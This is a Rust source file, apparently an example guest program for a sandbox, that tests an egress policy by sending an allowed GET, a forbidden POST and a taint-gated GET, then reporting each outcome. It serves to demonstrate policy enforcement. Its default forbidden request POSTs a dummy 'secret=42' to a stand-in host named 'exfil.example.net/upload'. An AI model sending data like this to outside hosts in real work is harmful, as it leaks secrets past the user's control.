//! egress-probe: tries three outbound requests and reports each outcome — the status and size
//! of a response, or the typed error (`access-denied`, `io`, ...):
//!
//! - `allowed`: a GET its policy permits (example.com);
//! - `forbidden`: a POST elsewhere, which no policy permits;
//! - `tainted`: a GET to example.org, which the policy permits only while the run carries no
//!   health data (run it with `--input-taint '{"classification": 2, "categories": ["health"]}'`
//!   to see it refused).

use cordon_guest::Error;
use cordon_guest::http::{self, Request};
use serde::Deserialize;
use serde_json::{Value, json};

/// Optional input: `{"allowed": "<url>", "forbidden": "<url>", "tainted": "<url>"}`.
#[derive(Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
struct Input {
    allowed: Option<String>,
    forbidden: Option<String>,
    tainted: Option<String>,
}

fn probe(request: Request) -> Value {
    let (method, url) = (request.method.clone(), request.url.clone());
    let outcome = match http::send(request) {
        Ok(response) => json!({
            "status": response.status,
            "bytes": response.body.len(),
            "content_type": response.header("content-type"),
        }),
        Err(err) => json!({ "error": err }),
    };
    json!({ "method": method, "url": url, "outcome": outcome })
}

fn run(input: Option<Input>) -> Result<Value, Error> {
    let input = input.unwrap_or_default();
    let allowed = input
        .allowed
        .unwrap_or_else(|| "https://example.com/".to_owned());
    let forbidden = input
        .forbidden
        .unwrap_or_else(|| "https://exfil.example.net/upload".to_owned());
    let tainted = input
        .tainted
        .unwrap_or_else(|| "https://example.org/".to_owned());
    Ok(json!({
        "allowed": probe(Request::get(allowed)),
        "forbidden": probe(Request::post(forbidden, "secret=42").header("content-type", "text/plain")),
        "tainted": probe(Request::get(tainted)),
    }))
}

cordon_guest::export!(run);
